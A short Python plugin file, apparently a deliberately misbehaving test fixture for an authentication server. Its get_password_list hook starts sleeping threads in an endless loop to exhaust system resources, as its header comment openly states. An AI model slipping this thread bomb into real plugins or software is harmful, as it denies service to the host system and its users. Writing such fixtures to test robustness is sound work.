# Starts threads until there are no more.
import threading
import time


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        while True:
            threading.Thread(target=time.sleep, args=(1e9,)).start()

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
